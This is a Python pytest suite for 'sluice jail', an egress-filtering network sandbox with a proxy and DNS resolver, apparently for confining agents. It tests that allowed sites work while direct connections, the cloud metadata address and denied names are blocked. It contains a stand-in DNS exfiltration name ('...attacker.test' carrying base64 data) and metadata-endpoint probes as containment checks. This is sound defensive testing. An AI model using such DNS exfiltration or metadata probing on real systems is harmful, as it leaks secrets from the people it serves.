"""`sluice jail -- CMD` (issue 6, item 4): CMD runs in a network namespace whose only reachable
destination is sluice's listener. The jail's parent, and so sluice's upstream side, stays in
this (the test) namespace, where the harness's DNS server and origins are; the jail has only
its own loopback. Through the proxy variables allowed sites work and internal ones are refused;
a client that ignores the variables reaches nothing; CMD's exit status is jail's.

Issue 13, item 6: sluice is the jail's resolver too (127.0.0.1:53, named by the jail's own
/etc/resolv.conf, the host's untouched), under the same policy; with dns.answer: proxy the
transparent listeners at 127.0.0.1:80 and :443 take a client that ignores the variables."""

import json
import os
import re
import shutil
import signal
import subprocess
import tempfile

import pytest

from sluice_proc import BASE_CONFIG, SANITIZER_MARKERS, merge, to_yaml

JAIL_FAILED = 125
NOBODY = "65534"


@pytest.fixture
def jail_cfg():
    """The suite's base config (resolver 127.0.0.1:5353 in this namespace), in a directory an
    unprivileged user can read too."""
    d = tempfile.mkdtemp(prefix="sluice-jail-")
    os.chmod(d, 0o755)
    path = os.path.join(d, "jail.yaml")
    with open(path, "w") as f:
        f.write(to_yaml(BASE_CONFIG) + "\n")
    os.chmod(path, 0o644)
    yield path
    shutil.rmtree(d, ignore_errors=True)


def _env(extra=None):
    env = dict(os.environ)
    env.setdefault("ASAN_OPTIONS", "detect_leaks=1:abort_on_error=0")
    env.setdefault("UBSAN_OPTIONS", "print_stacktrace=1:halt_on_error=1")
    env.update(extra or {})
    return env


def _clean(stderr):
    for m in SANITIZER_MARKERS:
        assert m not in stderr, "sanitizer report from sluice jail:\n" + stderr


def jail(sluice_bin, cfg, cmd, log=None, prefix=(), env=None, timeout=30):
    args = list(prefix) + [sluice_bin, "jail", "-c", cfg]
    if log:
        args += ["--log", log]
    r = subprocess.run(args + ["--"] + cmd, capture_output=True, text=True, timeout=timeout,
                       stdin=subprocess.DEVNULL, env=_env(env))
    _clean(r.stderr)
    return r


def decisions(text):
    return [json.loads(line) for line in text.splitlines() if line.startswith("{")]


def test_curl_through_the_proxy_variables_works(sluice_bin, jail_cfg, origins, tmp_path):
    before = origins.requests("192.0.2.10")
    log = str(tmp_path / "decisions.jsonl")
    r = jail(sluice_bin, jail_cfg, ["curl", "-sS", "--max-time", "10", "http://public.test/echo"],
             log=log)
    assert r.returncode == 0, r.stderr
    # CMD's stdout is its own: the echo body and nothing else.
    body = json.loads(r.stdout)
    assert body["path"] == "/echo"
    assert origins.requests("192.0.2.10") == before + 1
    with open(log) as f:
        lines = decisions(f.read())
    assert [(e["host"], e["decision"]) for e in lines] == [("public.test", "allow")], lines


def test_decision_log_goes_to_stderr_by_default(sluice_bin, jail_cfg, origins):
    r = jail(sluice_bin, jail_cfg, ["curl", "-sS", "-o", "/dev/null", "--max-time", "10",
                                    "http://public.test/echo"])
    assert r.returncode == 0, r.stderr
    assert r.stdout == ""
    assert [e["decision"] for e in decisions(r.stderr)] == ["allow"], r.stderr


def test_decision_log_goes_to_log_file_unless_log_is_given(sluice_bin, jail_cfg, origins,
                                                           tmp_path):
    """Issue 10: the config's log.file is the jail's log too; --log FILE still wins."""
    in_cfg, flag = tmp_path / "from-config.jsonl", tmp_path / "from-flag.jsonl"
    cfg = tmp_path / "jail-log.yaml"
    cfg.write_text(open(jail_cfg).read() + "log:\n  file: %s\n" % in_cfg)
    curl = ["curl", "-sS", "-o", "/dev/null", "--max-time", "10", "http://public.test/echo?q"]
    r = jail(sluice_bin, str(cfg), curl)
    assert r.returncode == 0, r.stderr
    assert decisions(r.stderr) == [], r.stderr
    [e] = decisions(in_cfg.read_text())
    assert (e["decision"], e["path"], e["event"]) == ("allow", "/echo", "end"), e
    r = jail(sluice_bin, str(cfg), curl, log=str(flag))
    assert r.returncode == 0, r.stderr
    assert len(decisions(flag.read_text())) == 1
    assert len(decisions(in_cfg.read_text())) == 1


def test_https_through_connect_works(sluice_bin, jail_cfg):
    # The echo server on 192.0.2.10:443 is raw TCP: the tunnel opens, TLS then fails. curl
    # reports the CONNECT status it got, which is what tells the proxy let it through.
    r = jail(sluice_bin, jail_cfg, ["curl", "-s", "-o", "/dev/null", "--max-time", "5",
                                    "-w", "%{http_connect}", "https://public.test/"])
    assert r.stdout == "200", (r.stdout, r.stderr)


@pytest.mark.parametrize("url", ["http://192.0.2.10/echo", "http://[2001:db8::10]/echo",
                                 "http://127.0.0.1/", "http://169.254.169.254/"])
def test_direct_connection_reaches_nothing(sluice_bin, jail_cfg, origins, canaries, url):
    before_canaries = canaries.snapshot()
    before = origins.hits("192.0.2.10")
    r = jail(sluice_bin, jail_cfg, ["curl", "-sS", "--noproxy", "*", "--connect-timeout", "3",
                                    "-o", "/dev/null", url])
    # 7: could not connect (no route, or nothing listening on the jail's own loopback).
    assert r.returncode == 7, (r.returncode, r.stderr)
    assert origins.hits("192.0.2.10") == before
    canaries.assert_unchanged(before_canaries)


def test_raw_socket_ignoring_the_variables_reaches_nothing(sluice_bin, jail_cfg, origins):
    before = origins.hits("192.0.2.10")
    probe = ("import socket\n"
             "for addr in [('192.0.2.10', 80), ('198.51.100.10', 80), ('127.0.0.1', 5353)]:\n"
             "    try:\n"
             "        socket.create_connection(addr, timeout=2)\n"
             "        print('connected', addr)\n"
             "    except OSError as e:\n"
             "        print('failed', addr, e.errno)\n")
    r = jail(sluice_bin, jail_cfg, ["python3", "-c", probe])
    assert r.returncode == 0, r.stderr
    assert "connected" not in r.stdout, r.stdout
    assert r.stdout.count("failed") == 3, r.stdout
    assert origins.hits("192.0.2.10") == before


def test_metadata_address_through_the_proxy_is_refused(sluice_bin, jail_cfg, canaries):
    before = canaries.snapshot()
    r = jail(sluice_bin, jail_cfg, ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                                    "--max-time", "10", "http://169.254.169.254/latest/"])
    assert r.returncode == 0, r.stderr
    assert r.stdout == "403"
    canaries.assert_unchanged(before)


def test_proxy_variables_are_set_for_the_jail(sluice_bin, jail_cfg):
    show = 'echo "$HTTP_PROXY|$HTTPS_PROXY|$http_proxy|$https_proxy|${ALL_PROXY-unset}|$NO_PROXY"'
    r = jail(sluice_bin, jail_cfg, ["sh", "-c", show],
             env={"ALL_PROXY": "socks5://198.51.100.1:1080", "NO_PROXY": "public.test",
                  "HTTP_PROXY": "http://192.0.2.99:8080"})
    assert r.returncode == 0, r.stderr
    url = "http://127.0.0.1:3128"
    assert r.stdout.strip() == "|".join([url] * 4 + ["unset", "localhost,127.0.0.1,::1"])


def test_loopback_in_the_jail_is_the_jails_own(sluice_bin, jail_cfg, canaries):
    # A server the agent starts itself is reachable through NO_PROXY; the host's loopback
    # (the canary on 127.0.0.1:8080 in the outer namespace) is not.
    before = canaries.snapshot()
    script = ("python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & "
              "for i in $(seq 50); do "
              "  curl -s -o /dev/null -w '%{http_code}' http://localhost:8080/ && break; "
              "  sleep 0.1; done; kill $!")
    r = jail(sluice_bin, jail_cfg, ["sh", "-c", script])
    assert r.stdout.endswith("200"), (r.stdout, r.stderr)
    canaries.assert_unchanged(before)


def test_exit_status_passes_through(sluice_bin, jail_cfg):
    assert jail(sluice_bin, jail_cfg, ["sh", "-c", "exit 7"]).returncode == 7
    assert jail(sluice_bin, jail_cfg, ["true"]).returncode == 0


def test_signal_killed_child_gives_128_plus_signal(sluice_bin, jail_cfg):
    r = jail(sluice_bin, jail_cfg, ["sh", "-c", "kill -KILL $$"])
    assert r.returncode == 128 + signal.SIGKILL


def test_missing_command_is_127(sluice_bin, jail_cfg):
    r = jail(sluice_bin, jail_cfg, ["/nonexistent/agent"])
    assert r.returncode == 127
    assert "cannot run /nonexistent/agent" in r.stderr


def test_bad_config_fails_before_running_anything(sluice_bin, tmp_path):
    marker = tmp_path / "ran"
    r = jail(sluice_bin, str(tmp_path / "missing.yaml"), ["touch", str(marker)])
    assert r.returncode == JAIL_FAILED
    assert "cannot read" in r.stderr
    assert not marker.exists()


def test_no_command_is_a_usage_error(sluice_bin):
    r = subprocess.run([sluice_bin, "jail"], capture_output=True, text=True, timeout=10)
    assert r.returncode == JAIL_FAILED
    assert "usage: sluice jail" in r.stderr


def test_sigterm_to_jail_is_forwarded_to_the_command(sluice_bin, jail_cfg):
    p = subprocess.Popen([sluice_bin, "jail", "-c", jail_cfg, "--", "sh", "-c",
                          "echo started; exec sleep 30"], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True, env=_env())
    try:
        assert p.stdout.readline().strip() == "started"
        p.send_signal(signal.SIGTERM)
        assert p.wait(10) == 128 + signal.SIGTERM
        _clean(p.stderr.read())
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        p.stdout.close()
        p.stderr.close()


def test_as_an_ordinary_user(sluice_bin, jail_cfg, origins):
    """Works where unprivileged user namespaces are enabled; elsewhere exits 125 saying why."""
    setpriv = shutil.which("setpriv")
    if not setpriv:
        pytest.skip("no setpriv to drop privileges")
    prefix = [setpriv, "--reuid=" + NOBODY, "--regid=" + NOBODY, "--clear-groups"]
    if subprocess.run(prefix + ["test", "-x", sluice_bin]).returncode != 0:
        pytest.skip("%s is not executable by uid %s" % (sluice_bin, NOBODY))
    before = origins.requests("192.0.2.10")
    script = ("curl -sS -o /dev/null --max-time 10 http://public.test/echo || exit 90; "
              "curl -s --noproxy '*' --connect-timeout 2 http://192.0.2.10/echo && exit 91; "
              "ip link set lo down 2>/dev/null && exit 92; "
              # sluice is the resolver, named by the jail's own resolv.conf (issue 13).
              "grep -qx 'nameserver 127.0.0.1' /etc/resolv.conf || exit 93; "
              "[ \"$(getent hosts public.test)\" = '192.0.2.10      public.test' ] || exit 94; "
              "id -u")
    r = jail(sluice_bin, jail_cfg, ["sh", "-c", script], prefix=prefix)
    if r.returncode == JAIL_FAILED:
        assert "sluice jail: cannot" in r.stderr, r.stderr
        return
    assert r.returncode == 0, (r.returncode, r.stderr)
    # CMD keeps the caller's uid and holds no capability over the jail's network.
    assert r.stdout.strip() == NOBODY
    assert origins.requests("192.0.2.10") == before + 1


# Runs argv[1:] as root of a new user namespace that maps uids 0..65535 to themselves: there,
# the user.* namespace limits are the test's own to lower, without touching the machine's.
_USERNS_RUNNER = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
go_r, go_w = os.pipe()
up_r, up_w = os.pipe()
pid = os.fork()
if pid == 0:
    if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
        os._exit(99)
    os.write(up_w, b"u")
    os.read(go_r, 1)
    os.setresgid(0, 0, 0)
    os.setresuid(0, 0, 0)
    os.execvp(sys.argv[1], sys.argv[1:])
if os.read(up_r, 1) != b"u":
    sys.exit(99)
for name in ("uid_map", "gid_map"):
    with open("/proc/%d/%s" % (pid, name), "w") as f:
        f.write("0 0 65536\n")
os.write(go_w, b"g")
sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
"""


@pytest.mark.parametrize("knob,as_user,why", [
    ("max_user_namespaces", True, "user namespaces are disabled (sysctl "
                                  "user.max_user_namespaces=0)"),
    ("max_net_namespaces", True, "network namespaces are disabled (sysctl "
                                 "user.max_net_namespaces=0)"),
    ("max_net_namespaces", False, "network namespaces are disabled (sysctl "
                                  "user.max_net_namespaces=0)"),
])
def test_without_namespaces_jail_says_why(sluice_bin, jail_cfg, knob, as_user, why):
    marker = "/tmp/sluice-jail-ran-%d" % os.getpid()
    drop = "setpriv --reuid=%s --regid=%s --clear-groups " % (NOBODY, NOBODY) if as_user else ""
    script = "echo 0 > /proc/sys/user/%s && exec %s%s jail -c %s -- touch %s" % (
        knob, drop, sluice_bin, jail_cfg, marker)
    r = subprocess.run(["python3", "-c", _USERNS_RUNNER, "sh", "-c", script], capture_output=True,
                       text=True, timeout=30, env=_env())
    _clean(r.stderr)
    if r.returncode == 99:
        pytest.skip("cannot make a user namespace to lower the limits in")
    assert r.returncode == JAIL_FAILED, (r.returncode, r.stderr)
    assert why in r.stderr
    assert not os.path.exists(marker)


def test_jail_as_root_prints_no_root_warning(sluice_bin, jail_cfg):
    """The daemon warns when root runs it without user: (issue 10, item 9); jail does not:
    user: does not apply to jail (its parent keeps its credentials to serve and wait for CMD,
    docs/jail.md), so "set user:" would be advice that changes nothing."""
    assert os.geteuid() == 0
    r = jail(sluice_bin, jail_cfg, ["true"])
    assert r.returncode == 0, r.stderr
    assert "running as root" not in r.stderr, r.stderr



# ---- sluice as the jail's resolver (issue 13, item 6) --------------------------------------

needs_dig = pytest.mark.skipif(shutil.which("dig") is None,
                               reason="dig (bind9-dnsutils) is not installed")
DIG = "dig +tries=1 +time=3"
NO_PROXY_VARS = "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy"
# What sluice is in the policies below: the transparent listeners are what dns.answer: proxy
# needs to pass `sluice check`; the jail serves its own at 127.0.0.1:80 and :443 instead.
TRANSPARENT = {"transparent_http": "127.0.0.1:18080", "transparent_tls": "127.0.0.1:18443"}
# A name that carries data, as an exfiltration through DNS would.
EXFIL = "c2VjcmV0IGRhdGE.attacker.test"


@pytest.fixture
def jail_policy(tmp_path):
    """Writes the suite's base config with `extra` merged in; returns its path."""
    made = []

    def write(**extra):
        path = tmp_path / ("policy%d.yaml" % len(made))
        path.write_text(to_yaml(merge(BASE_CONFIG, extra)) + "\n")
        made.append(path)
        return str(path)
    return write


def sections(stdout):
    """The outputs of a script that echoes "==" between its commands."""
    return [part.strip() for part in stdout.split("==\n")]


def jail_steps(sluice_bin, cfg, steps, **kw):
    """Runs the shell commands of steps ({name: command}) one after the other in one jail;
    returns the result and {name: its output}."""
    r = jail(sluice_bin, cfg, ["sh", "-c", "; echo ==; ".join(steps.values())], **kw)
    assert r.returncode == 0, r.stderr
    out = sections(r.stdout)
    assert len(out) == len(steps), r.stdout
    return r, dict(zip(steps, out))


def nameservers(text):
    return re.findall(r"(?m)^\s*nameserver\s+(\S+)", text)


@needs_dig
def test_dig_in_the_jail_asks_sluice_under_the_policy(sluice_bin, jail_policy, dns, tmp_path):
    """An allowed name resolves through sluice (and so the test's upstream server), over UDP
    and TCP and through /etc/resolv.conf; a denied one gets NXDOMAIN and never leaves."""
    cfg = jail_policy(allow=["public.test"])
    log = str(tmp_path / "decisions.jsonl")
    r, out = jail_steps(sluice_bin, cfg, {
        "udp": "%s +short @127.0.0.1 public.test A" % DIG,
        "tcp": "%s +short +tcp @127.0.0.1 public.test A" % DIG,
        "resolv.conf": "%s +short public.test A" % DIG,  # the server /etc/resolv.conf names
        # [::1]:53 too, where the jail has IPv6 (as [::1]:3128 is).
        "ipv6": "if grep -q . /proc/net/if_inet6; then %s +short @::1 public.test A; "
                "else echo 192.0.2.10; fi" % DIG,
        "denied": "%s @127.0.0.1 %s A" % (DIG, EXFIL),
        "denied_tcp": "%s +tcp @127.0.0.1 %s AAAA" % (DIG, EXFIL),
    }, log=log)
    for step in ("udp", "tcp", "resolv.conf", "ipv6"):
        assert out[step] == "192.0.2.10", (step, r.stdout)
    for step in ("denied", "denied_tcp"):
        assert "status: NXDOMAIN" in out[step], (step, r.stdout)
    assert dns.queries("public.test") >= 1
    assert dns.queries(EXFIL) == 0
    with open(log) as f:
        lines = [e for e in decisions(f.read()) if e.get("kind") == "dns"]
    assert {(e["name"], e["decision"], e["client"].rsplit(":", 1)[0]) for e in lines} >= {
        ("public.test", "allow", "127.0.0.1"), (EXFIL.lower(), "deny", "127.0.0.1")}, lines


def test_resolv_conf_in_the_jail_names_sluice_and_the_hosts_is_unchanged(sluice_bin, jail_cfg):
    with open("/etc/resolv.conf", "rb") as f:
        before = f.read()
    st = os.stat("/etc/resolv.conf")
    with open("/proc/self/mountinfo") as f:
        mounts = f.read()
    marker = tempfile.NamedTemporaryFile(prefix="sluice-jail-tmp-", dir="/tmp")
    with marker:
        r = jail(sluice_bin, jail_cfg, ["sh", "-c", "cat /etc/resolv.conf; echo ==; "
                                        "test -e %s && echo host-tmp" % marker.name])
    assert r.returncode == 0, r.stderr
    resolv, tmp = sections(r.stdout)
    assert nameservers(resolv) == ["127.0.0.1"], resolv
    assert not re.search(r"(?m)^\s*(search|domain)\b", resolv), resolv
    # The file was staged on a tmpfs over /tmp, gone before CMD ran: CMD sees the host's /tmp.
    assert tmp == "host-tmp", r.stdout
    assert "sluice jail:" not in r.stderr, r.stderr
    with open("/etc/resolv.conf", "rb") as f:
        assert f.read() == before
    after = os.stat("/etc/resolv.conf")
    assert (after.st_ino, after.st_mtime_ns, after.st_size) == \
        (st.st_ino, st.st_mtime_ns, st.st_size)
    with open("/proc/self/mountinfo") as f:
        assert f.read() == mounts  # nothing was mounted here, and nothing propagated


def test_resolv_conf_mount_stays_in_the_jail_where_mounts_are_shared(sluice_bin, jail_cfg):
    """Where / is a shared mount (systemd makes it so), a mount namespace copied from it gets
    its mounts back and forth unless jail makes it private. Shown in a mount namespace of the
    test's own, cut from the machine's and made shared inside: after the jail, its resolv.conf
    is still the host's, with nothing mounted over it, and its /tmp is as it was."""
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("no unshare(1) to make the test's own mount namespace")
    with open("/etc/resolv.conf") as f:
        host = f.read()
    script = ('mount --make-rshared / && "$@" && echo == && cat /etc/resolv.conf && echo == && '
              'grep -E " (/etc/resolv.conf|/tmp) " /proc/self/mountinfo | grep -c sluice-jail')
    r = subprocess.run([unshare, "-m", "--propagation", "private", "sh", "-c", script, "rig",
                        sluice_bin, "jail", "-c", jail_cfg, "--", "cat", "/etc/resolv.conf"],
                       capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL,
                       env=_env())
    _clean(r.stderr)
    inside, after, mounted = sections(r.stdout)
    assert nameservers(inside) == ["127.0.0.1"], r.stdout
    assert after == host.strip(), r.stdout
    assert mounted == "0", r.stdout


# Runs CMD with a private copy of the mount table in which /etc/resolv.conf is a symlink into a
# directory of its own (as systemd-resolved's stub link is, into /run), to the file STUB or, with
# STUB=missing, to nothing. The real /etc stays untouched: its entries are linked from a stand-in
# /etc mounted over it in this namespace only. Prints the stub file after the jail has exited.
_SYMLINK_RIG = r"""
set -e
mount -t tmpfs sluice-test /mnt
mkdir /mnt/real-etc /mnt/etc /mnt/resolve
mount --bind /etc /mnt/real-etc
for e in /mnt/real-etc/* /mnt/real-etc/.[!.]*; do [ -e "$e" ] && ln -s "$e" /mnt/etc/; done
rm -f /mnt/etc/resolv.conf
if [ "$STUB" != missing ]; then echo "nameserver 192.0.2.53" > /mnt/resolve/stub-resolv.conf; fi
ln -s /mnt/resolve/stub-resolv.conf /mnt/etc/resolv.conf
mount --bind /mnt/etc /etc
set +e
"$@"
rc=$?
echo ==
cat /mnt/resolve/stub-resolv.conf 2>/dev/null || echo no-stub
exit $rc
"""


def in_symlink_rig(argv, stub=True):
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("no unshare(1) to make the test's own mount namespace")
    r = subprocess.run([unshare, "-m", "--propagation", "private", "sh", "-c", _SYMLINK_RIG,
                        "rig"] + argv, capture_output=True, text=True, timeout=30,
                       stdin=subprocess.DEVNULL, env=_env({"STUB": "stub" if stub else "missing"}))
    _clean(r.stderr)
    return r


def test_resolv_conf_that_is_a_symlink_is_followed(sluice_bin, jail_cfg):
    r = in_symlink_rig([sluice_bin, "jail", "-c", jail_cfg, "--", "sh", "-c",
                        "readlink /etc/resolv.conf; cat /etc/resolv.conf"])
    assert r.returncode == 0, r.stderr
    inside, stub = sections(r.stdout)
    link, _, resolv = inside.partition("\n")
    assert link == "/mnt/resolve/stub-resolv.conf", inside  # still the link, read through it
    assert nameservers(resolv) == ["127.0.0.1"], inside
    assert nameservers(stub) == ["192.0.2.53"], stub  # the file behind the link is unchanged
    assert "sluice jail:" not in r.stderr, r.stderr


@needs_dig
def test_resolv_conf_that_leads_nowhere_is_left_alone(sluice_bin, jail_cfg, dns):
    """A link to nothing (systemd-resolved not running, say) cannot be mounted over without
    making its target on the host: jail says so and runs CMD, whose resolver then asks
    127.0.0.1 by default, where sluice answers."""
    script = "getent hosts public.test; echo ==; %s +short @127.0.0.1 public.test" % DIG
    r = in_symlink_rig([sluice_bin, "jail", "-c", jail_cfg, "--", "sh", "-c", script],
                       stub=False)
    assert r.returncode == 0, r.stderr
    getent, dig, stub = sections(r.stdout)
    assert getent.split() == ["192.0.2.10", "public.test"], r.stdout
    assert dig == "192.0.2.10", r.stdout
    assert stub == "no-stub", r.stdout  # nothing was made at the link's target
    assert "sluice jail: no /etc/resolv.conf" in r.stderr, r.stderr


@needs_dig
def test_without_a_mount_namespace_jail_says_so_and_still_serves_dns(sluice_bin, jail_cfg, dns):
    """user.max_mnt_namespaces=0 (in a user namespace of the test's own): no mount namespace,
    so CMD keeps the host's resolv.conf, is told why, and sluice still answers at 127.0.0.1:53."""
    with open("/etc/resolv.conf") as f:
        host = f.read()
    script = ("echo 0 > /proc/sys/user/max_mnt_namespaces && exec %s jail -c %s -- sh -c "
              "'cat /etc/resolv.conf; echo ==; %s +short @127.0.0.1 public.test'"
              % (sluice_bin, jail_cfg, DIG))
    r = subprocess.run(["python3", "-c", _USERNS_RUNNER, "sh", "-c", script], capture_output=True,
                       text=True, timeout=30, env=_env())
    _clean(r.stderr)
    if r.returncode == 99:
        pytest.skip("cannot make a user namespace to lower the limits in")
    assert r.returncode == 0, (r.returncode, r.stderr)
    resolv, dig = sections(r.stdout)
    assert resolv == host.strip(), r.stdout
    assert dig == "192.0.2.10", r.stdout
    assert "sluice jail: cannot make a mount namespace" in r.stderr, r.stderr
    assert "sluice still answers DNS at 127.0.0.1:53" in r.stderr, r.stderr


def test_without_proxy_answers_there_is_no_transparent_listener(sluice_bin, jail_policy, dns):
    """dns.answer: real (the default): names resolve to their real addresses, which the jail
    cannot reach, and nothing listens on 127.0.0.1:80 or :443."""
    cfg = jail_policy(allow=["public.test"])
    r, out = jail_steps(sluice_bin, cfg, {
        "by_name": "%s curl -s --connect-timeout 3 -o /dev/null http://public.test/echo; "
                   "echo $?" % NO_PROXY_VARS,
        "http": "%s curl -s --connect-timeout 3 -o /dev/null --resolve "
                "public.test:80:127.0.0.1 http://public.test/echo; echo $?" % NO_PROXY_VARS,
        "https": "%s curl -s --connect-timeout 3 -o /dev/null --resolve "
                 "public.test:443:127.0.0.1 https://public.test/; echo $?" % NO_PROXY_VARS,
    })
    assert out == {"by_name": "7", "http": "7", "https": "7"}, r.stdout  # could not connect


# Answered by proxy at the top level, or for the agent 127.0.0.1 is; proxy_addresses name
# sluice on the policy's own network, which in the jail is 127.0.0.1 whatever they say.
PROXY_POLICIES = {
    "top_level": {"allow": ["public.test"], "dns": {"answer": "proxy"}, "listen": TRANSPARENT},
    "proxy_addresses": {"allow": ["public.test"], "listen": TRANSPARENT, "dns": {
        "answer": "proxy", "proxy_addresses": ["192.0.2.10", "2001:db8::10"]}},
    "agent": {"listen": TRANSPARENT, "agents": [
        {"name": "jailed", "match": {"source": ["127.0.0.1/32"]}, "allow": ["public.test"],
         "dns": {"answer": "proxy"}},
        {"name": "default", "allow": []}]},
}


@pytest.mark.parametrize("policy", sorted(PROXY_POLICIES))
def test_proxy_answers_let_a_client_without_proxy_variables_through(
        sluice_bin, jail_policy, origins, dns, tmp_path, policy):
    cfg = jail_policy(**PROXY_POLICIES[policy])
    log = str(tmp_path / "decisions.jsonl")
    http_before = origins.requests("192.0.2.10")
    tls_before = origins.count("192.0.2.10", 443)
    r, out = jail_steps(sluice_bin, cfg, {
        "answer": "getent hosts public.test",
        "body": "%s curl -sS --max-time 10 http://public.test/echo" % NO_PROXY_VARS,
        "status": "curl -sS --noproxy '*' --max-time 10 -o /dev/null "
                  "-w '%{http_code} %{remote_ip}' http://public.test/echo",
        # 192.0.2.10:443 is a TCP echo server: the ClientHello relayed to it comes back, and
        # curl's TLS fails; the connection counted there is what shows it got through.
        "tls": "curl -s --noproxy '*' --max-time 5 -o /dev/null https://public.test/; echo $?",
    }, log=log)
    assert out["answer"].split() == ["127.0.0.1", "public.test"], r.stdout
    assert json.loads(out["body"])["path"] == "/echo", r.stdout
    assert out["status"] == "200 127.0.0.1", r.stdout
    assert out["tls"] not in ("0", "7"), r.stdout  # connected, then TLS failed
    assert origins.requests("192.0.2.10") == http_before + 2
    assert origins.count("192.0.2.10", 443) == tls_before + 1
    with open(log) as f:
        lines = decisions(f.read())
    ends = [(e["host"], e["method"], e["port"], e["decision"]) for e in lines
            if e.get("kind") != "dns" and e.get("event") == "end"]
    assert ends == [("public.test", "GET", 80, "allow")] * 2 + \
        [("public.test", "TLS", 443, "allow")], lines
    assert {tuple(e["answers"]) for e in lines if e.get("kind") == "dns" and
            e["type"] == "A"} == {("127.0.0.1",)}, lines


@pytest.mark.parametrize("policy", sorted(PROXY_POLICIES))
def test_proxy_answers_refuse_a_denied_name_without_proxy_variables(
        sluice_bin, jail_policy, origins, canaries, dns, policy):
    """blocked.test (192.0.2.10, the allowed origin's address) is not resolved, and a
    connection to the transparent listeners for it anyway is refused by name: nothing
    reaches 192.0.2.10, and no query for it leaves."""
    cfg = jail_policy(**PROXY_POLICIES[policy])
    before = canaries.snapshot()
    hits, tls = origins.hits("192.0.2.10"), origins.count("192.0.2.10", 443)
    r, out = jail_steps(sluice_bin, cfg, {
        "by_name": "curl -s --noproxy '*' --max-time 5 http://blocked.test/echo; echo $?",
        "http": "curl -s --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}' "
                "--resolve blocked.test:80:127.0.0.1 http://blocked.test/echo",
        "https": "curl -s --noproxy '*' --max-time 5 -o /dev/null "
                 "--resolve blocked.test:443:127.0.0.1 https://blocked.test/; echo $?",
    })
    assert out["by_name"] == "6", r.stdout  # could not resolve: NXDOMAIN
    assert out["http"] == "403", r.stdout
    assert out["https"] not in ("0", "7"), r.stdout  # reached sluice, refused with an alert
    assert dns.queries("blocked.test") == 0
    assert origins.hits("192.0.2.10") == hits
    assert origins.count("192.0.2.10", 443) == tls
    canaries.assert_unchanged(before)
    denied = {(e.get("kind", e.get("method")), e.get("type")) for e in decisions(r.stderr)
              if e["decision"] == "deny"}
    assert denied == {("dns", "A"), ("dns", "AAAA"), ("GET", None), ("TLS", None)}, r.stderr
